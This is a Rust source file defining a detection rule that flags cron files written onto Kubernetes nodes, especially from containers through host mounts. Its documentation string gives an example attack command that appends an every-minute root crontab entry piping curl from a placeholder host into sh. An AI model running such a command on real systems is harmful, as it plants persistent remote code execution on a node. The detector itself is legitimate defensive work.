//! JW-HOST-0005: a file written into a node's cron directories.

use super::{Facts, Hit, Rule, RuleMeta, Status, detail, node_file_write};
use crate::config::HostConfig;
use crate::event::basename;
use jobwarden_model::{Severity, Subject};

/// See [`META`].
pub struct NodeCronWrite;

/// Identity and documentation.
pub static META: RuleMeta = RuleMeta {
    id: "JW-HOST-0005",
    slug: "node-cron-write",
    title: "File written into a node's cron directories",
    max_severity: Severity::High,
    attack: &["T1053.003", "T1053.007", "T1611"],
    status: Status::Preview,
    since: "0.1.0",
    docs: "## What it detects
A file created or written under `/etc/crontab`, `/etc/cron.d/`, `/etc/cron.{hourly,daily,weekly,monthly}/`,
`/etc/anacrontab` or `/var/spool/cron/`, seen as a file event (auditd `PATH nametype=CREATE`,
Sysmon 11, Tetragon file probes, Falco, ECS file events) or as a shell redirection/`tee` on a
command line. Paths reached through a host mount (`/host/etc/cron.d/...`, `/proc/1/root/...`)
count as the node's.

## Why it matters
A Job or CronJob with a hostPath mount can plant a node crontab that outlives the Job and the
cluster's own scheduling (Peirates appends an every-minute reverse shell to `/etc/crontab`).
`medium` on a host, `high` from a container or through a host mount; package managers and
`crontab` itself are `low`.

## Example
`sh -c 'echo \"* * * * * root curl http://x/s | sh\" >> /host/etc/crontab'` in a pod: `high`.
Benign look-alike: `dpkg` installing `/etc/cron.daily/logrotate`: `low`.

## False positives
Configuration management (Ansible, Puppet, Chef, Salt) writing cron files; add their hosts to
`admin_hosts` or disable the rule on managed fleets.

## Response
Read the new cron entry, remove it if unexpected, and find the pod or user that wrote it.",
};

/// Host-mount prefixes that containers use to reach the node's filesystem.
pub(crate) const HOST_MOUNTS: &[&str] = &[
    "/host",
    "/hostfs",
    "/rootfs",
    "/host-root",
    "/node",
    "/mnt/host",
    "/proc/1/root",
    "/root-fs",
];

/// The path as the node sees it, and whether it went through a host mount.
pub(crate) fn node_path(path: &str) -> (String, bool) {
    for prefix in HOST_MOUNTS {
        if let Some(rest) = path.strip_prefix(prefix)
            && rest.starts_with('/')
        {
            return (rest.to_string(), true);
        }
    }
    (path.to_string(), false)
}

fn is_cron_path(path: &str) -> bool {
    path == "/etc/crontab"
        || path == "/etc/anacrontab"
        || [
            "/etc/cron.d/",
            "/etc/cron.hourly/",
            "/etc/cron.daily/",
            "/etc/cron.weekly/",
            "/etc/cron.monthly/",
            "/var/spool/cron/",
        ]
        .iter()
        .any(|p| path.starts_with(p) && path.len() > p.len())
}

const MANAGERS: &[&str] = &[
    "dpkg",
    "rpm",
    "yum",
    "dnf",
    "apt",
    "apt-get",
    "unattended-upgrade",
    "crontab",
    "puppet",
    "chef-client",
    "salt-minion",
    "ansible",
    "zypper",
    "apk",
];

impl Rule for NodeCronWrite {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, facts: &Facts<'_>, _config: &HostConfig) -> Option<Hit> {
        let (path, exe, in_container, host) =
            node_file_write(facts, |t| is_cron_path(&node_path(t).0))?;
        let (node, via_mount) = node_path(&path);
        if !is_cron_path(&node) {
            return None;
        }
        let file = basename(&node);
        // Editor swap files and temporary files are not cron entries.
        if file.starts_with('.')
            || file.ends_with('~')
            || file.ends_with(".swp")
            || file.ends_with(".dpkg-new")
        {
            return None;
        }
        let writer = exe
            .as_deref()
            .map(basename)
            .unwrap_or_default()
            .to_ascii_lowercase();
        let severity = if in_container || via_mount {
            Severity::High
        } else if MANAGERS.contains(&writer.as_str()) {
            Severity::Low
        } else {
            Severity::Medium
        };
        Some(Hit {
            severity,
            summary: format!(
                "{node} written by {}{}",
                if writer.is_empty() {
                    "unknown process"
                } else {
                    writer.as_str()
                },
                if in_container || via_mount {
                    " from a container"
                } else {
                    ""
                }
            ),
            subject: Subject {
                kind: "Node".into(),
                namespace: None,
                name: host,
                cluster: None,
            },
            detail: vec![
                detail("node_path", node.clone()),
                detail("via_host_mount", via_mount),
            ],
            remediation: (severity >= Severity::Medium)
                .then(|| format!("Inspect {node} on the node and remove unexpected entries.")),
        })
    }
}
